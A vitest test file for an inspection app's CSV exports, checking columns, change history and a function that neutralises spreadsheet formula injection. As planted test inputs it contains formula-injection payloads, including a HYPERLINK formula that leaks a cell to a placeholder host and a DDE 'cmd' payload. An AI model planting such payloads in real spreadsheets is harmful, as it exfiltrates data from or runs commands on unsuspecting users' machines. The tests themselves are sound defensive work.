import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { culvertFixture, inspectionFixture } from '../testing/culvertFixture';
import { historyEntryFixture } from '../testing/historyFixture';
import { issueFixture } from '../testing/issueFixture';
import { culvertsToCsv, HISTORY_COLUMN, issuesToCsv, neutraliseFormula, rowsToCsv } from './csv';
import { EXPORT_COLUMNS } from './fields';
import { inspectionsToCsv } from './inspectionCsv';

/** A CSV's rows by column, after its byte-order mark; a parse error fails the test. */
const parse = (csv: string) => {
  const parsed = Papa.parse<Record<string, string>>(csv.slice(1), { header: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
};

describe('issuesToCsv', () => {
  it('adds each issue’s history, newest first, in a last column when asked', () => {
    const history = {
      5: [
        historyEntryFixture({ id: 2, changes: [{ field: 'photos', old: null, new: 'a.jpg' }] }),
        historyEntryFixture({ id: 1, action: 'created', changes: [], offline: true }),
      ],
    };
    const rows = parse(issuesToCsv([issueFixture({ id: 5 }), issueFixture({ id: 6 })], history));
    expect(Object.keys(rows[0] ?? {}).at(-1)).toBe(HISTORY_COLUMN);
    const lines = rows[0]?.[HISTORY_COLUMN]?.split('\n');
    expect(lines).toHaveLength(2);
    expect(lines?.[0]).toMatch(/ — Edited by Jane Smith \(Acme Pipelines\): Photo added$/);
    expect(lines?.[1]).toMatch(/, offline — Created by Jane Smith \(Acme Pipelines\)$/);
    expect(rows[1]?.[HISTORY_COLUMN]).toBe('');
    expect(Object.keys(parse(issuesToCsv([issueFixture({ id: 5 })]))[0] ?? {})).not.toContain(HISTORY_COLUMN);
  });

  it('writes the spec columns and one row per issue, parsing back to the same values', () => {
    const csv = issuesToCsv([
      issueFixture({ id: 5, comments: 'Tall, dense "patch"\nby the valve', species: ['Tansy'] }),
      issueFixture({ id: 6, area: 'Área 2', issue_type: null }),
    ]);
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true });
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual([...EXPORT_COLUMNS]);
    expect(parsed.data).toHaveLength(2);
    expect(parsed.data[0]).toMatchObject({
      'Verge Id': '5',
      Comments: 'Tall, dense "patch"\nby the valve',
      'Species of Weeds': 'Tansy',
    });
    expect(parsed.data[1]).toMatchObject({
      'Area Name': 'Área 2',
      'Issue Type': 'No Problem Found',
      Comments: 'N/A',
    });
  });

  it('writes only the byte-order mark and the header for no issues', () => {
    expect(issuesToCsv([]).trimEnd()).toBe(`\ufeff${EXPORT_COLUMNS.join(',')}`);
  });
});

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&A2,"open")'],
    ['+1+2'],
    ["-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1)'],
    ['\t=1+1'],
    ['\r=1+1'],
  ])('prefixes a quote to %j, which a spreadsheet would run', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('neutralises text starting with a minus that is not a plain number', () => {
    for (const text of ['-', '- see photo', '-12 m', '-1e5', '--1', '-.5', '-1+1', '+12']) {
      expect(neutraliseFormula(text)).toBe(`'${text}`);
    }
  });

  it('leaves plain numbers, negative ones included, and text starting otherwise as they are', () => {
    for (const text of ['-114.071900', '-12', '0', '10', '53.93', 'N/A', 'Tall = dense', ' =1', "'=1", '']) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });

  it('neutralises a formula with a line break after it (papaparse escapeFormulae misses it)', () => {
    expect(neutraliseFormula('=1+1\nnote')).toBe("'=1+1\nnote");
  });
});

describe('rowsToCsv', () => {
  it('neutralises each cell and still quotes commas, quotes and line breaks', () => {
    const csv = rowsToCsv(['a', 'b', 'c'] as const, [
      { a: '=HYPERLINK("http://x/?"&A2,"open")', b: '-114.0719', c: '@SUM(1),\n"x"' },
    ]);
    expect(csv).toBe(
      '\ufeffa,b,c\r\n"\'=HYPERLINK(""http://x/?""&A2,""open"")",-114.0719,"\'@SUM(1),\n""x"""',
    );
    expect(parse(csv)).toEqual([
      { a: '\'=HYPERLINK("http://x/?"&A2,"open")', b: '-114.0719', c: '\'@SUM(1),\n"x"' },
    ]);
  });
});

describe('every CSV export', () => {
  const planted = '=HYPERLINK("http://x/?"&A2,"open")';

  it("issues: a formula planted in Comments or the initiator's name is text; the risk score a number", () => {
    const [row] = parse(
      issuesToCsv([issueFixture({ id: 5, comments: planted, user: '+1+2', risk_score: 10 })]),
    );
    expect(row).toMatchObject({ Comments: `'${planted}`, Initiator: "'+1+2", 'Risk Score': '10' });
  });

  it('culverts: planted formulas are text, negative longitudes stay numbers', () => {
    const [row] = parse(
      culvertsToCsv([
        {
          culvert: culvertFixture({ road_name: '@SUM(1)' }),
          inspection: inspectionFixture({ comments: planted, user: '-2+3' }),
        },
      ]),
    );
    expect(row).toMatchObject({
      'Road Name': "'@SUM(1)",
      Comments: `'${planted}`,
      User: "'-2+3",
      'Inlet Longitude': '-116.500000',
      'Outlet Longitude': '-116.400000',
    });
  });

  it('inspections: a formula planted in Comments or the user name is text', () => {
    const [row] = parse(inspectionsToCsv([inspectionFixture({ comments: planted, user: '@me' })], new Map()));
    expect(row).toMatchObject({ Comments: `'${planted}`, User: "'@me" });
  });
});
